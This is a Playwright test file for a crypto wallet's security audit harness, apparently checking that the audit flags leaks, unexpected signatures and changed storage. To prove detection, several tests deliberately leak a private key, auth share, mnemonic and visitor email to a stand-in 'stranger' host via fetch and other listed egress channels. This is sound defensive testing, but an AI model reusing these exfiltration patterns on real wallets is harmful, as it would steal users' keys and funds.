import type { Page } from '@playwright/test'
import { egressWays, scriptOf } from '../rows/egress.ts'
import type { Kit } from '../stage/pageKit.ts'
import type { Stage } from '../stage/startStage.ts'
import { ask, openWallet, realmAt, signByHand, until } from '../stage/visitor.ts'
import { chromiumTab } from './chromiumTab.ts'
import { audit, expect, type Home, test } from './scenarios.ts'

declare const kit: Kit

/** A row must be able to fail: each of these leaks, signs, changes or breaks something, and the audit must say so. */

/** What the audit finds after a deed of the listed page. */
const auditAfter = async (stage: Stage, home: Home, deed: (page: Page) => Promise<unknown>): Promise<string[]> => {
  const from = stage.sites.visits.length
  const page = await home.context.newPage()
  try {
    await openWallet(stage, chromiumTab(page))
    await deed(page)
    return await audit(stage, home, [chromiumTab(page)], from)
  } finally {
    await page.close()
  }
}

const hex = (bytes: Uint8Array | undefined): string => Buffer.from(bytes ?? []).toString('hex')

test('the audit finds nothing where nothing happens', async ({ stage, home }) => {
  expect(await auditAfter(stage, home, async () => undefined)).toEqual([])
})

test('the audit finds a secret in the console, in messages, in storage and on its way to a stranger', async ({
  stage,
  home,
}) => {
  const { secrets, visitor } = home
  const found = await auditAfter(stage, home, (page) =>
    page.evaluate(
      async ({ key, share, words, stranger, email }) => {
        console.info(key)
        postMessage(share, location.origin)
        const { port1, port2 } = new MessageChannel()
        port2.start()
        port1.postMessage(words)
        await fetch(`${stranger}/leak/${key}`, { mode: 'no-cors' })
        await fetch(`${stranger}/who`, { mode: 'no-cors', method: 'POST', body: email })
      },
      {
        key: hex(secrets.bytes['private key']),
        share: hex(secrets.bytes['auth share']),
        words: secrets.words.join(' '),
        stranger: stage.urls.stranger,
        email: visitor.email,
      },
    ),
  )
  const { host } = new URL(stage.urls.stranger)
  expect(found).toEqual(
    expect.arrayContaining([
      'leaked: console: private key',
      `leaked: message at ${stage.urls.listed}: auth share`,
      `leaked: sent through a port at ${stage.urls.listed}: mnemonic`,
      `leaked: ${host} was asked for /leak/${hex(secrets.bytes['private key'])}`,
      `leaked: ${host} was told who the visitor is`,
    ]),
  )
})

test('the audit finds a stranger whom the wallet has told something', async ({ stage, home }) => {
  const page = await home.context.newPage()
  const tab = chromiumTab(page)
  try {
    await openWallet(stage, tab)
    await tab.evaluate((url) => kit.embed(url).then(() => undefined), `${stage.urls.stranger}/`)
    const wallet = realmAt(tab, stage.urls.wallet)
    await wallet.evaluate((email) => parent.frames[1]?.postMessage({ email }, '*'), home.visitor.email)
    await until(() => realmAt(tab, stage.urls.stranger).evaluate(() => kit.heard.length > 0, undefined))
    const found = await audit(stage, home, [tab], stage.sites.visits.length)
    expect(found.join('\n')).toContain(`leaked: message at ${stage.urls.stranger}: who the visitor is`)
    expect(found.join('\n')).toContain(`leaked: ${stage.urls.stranger} was told`)
  } finally {
    await page.close()
  }
})

test('the audit finds a signature, also by a page that is gone', async ({ stage, home }) => {
  const found = await auditAfter(stage, home, (page) => signByHand(stage, chromiumTab(page), home.visitor.address))
  expect(found.join('\n')).toContain(`signed: ${stage.urls.listed} was told`)
  expect(found.join('\n')).toContain(`signed: come through a port at ${stage.urls.wallet}`)
  const later = await auditAfter(stage, home, async (page) => {
    await signByHand(stage, chromiumTab(page), home.visitor.address)
    await page.goto('about:blank')
  })
  expect(later).toContain(`signed: come through a port at ${stage.urls.wallet}`)
})

test('the audit finds that what the wallet stores is not the same', async ({ stage, home }) => {
  const changed = await auditAfter(stage, home, (page) => ask(chromiumTab(page), 'SWITCH_NETWORK', { chainId: 1337 }))
  expect(changed).toEqual(['changed: what the wallet stores'])
  await auditAfter(stage, home, (page) => ask(chromiumTab(page), 'SWITCH_NETWORK', { chainId: 31337 }))
})

test('the ways out of the vault are real: a page without a policy leaks through them', async ({ stage, home }) => {
  const page = await home.context.newPage()
  await page.goto(`${stage.urls.listed}/`)
  const from = stage.sites.visits.length
  const expected = {
    requests: 'fetch keepalive xhr beacon socket events own',
    elements: 'img srcset script style import property font audio poster object embed svg frame',
    code: 'blob eval function timer inline handler markup srcdoc blank',
    peers: '',
  }
  for (const [group, names] of Object.entries(expected)) {
    await page.evaluate(scriptOf(egressWays[group] ?? {}, stage.urls.stranger))
    // Each group before the next one, which writes the document anew.
    await expect
      .poll(() => {
        const leaked = stage.sites.visits.slice(from).map(({ path }) => path.replace('/leak/', ''))
        return names.split(' ').filter((name) => name !== '' && !leaked.includes(name))
      })
      .toEqual([])
  }
  await page.close()
})
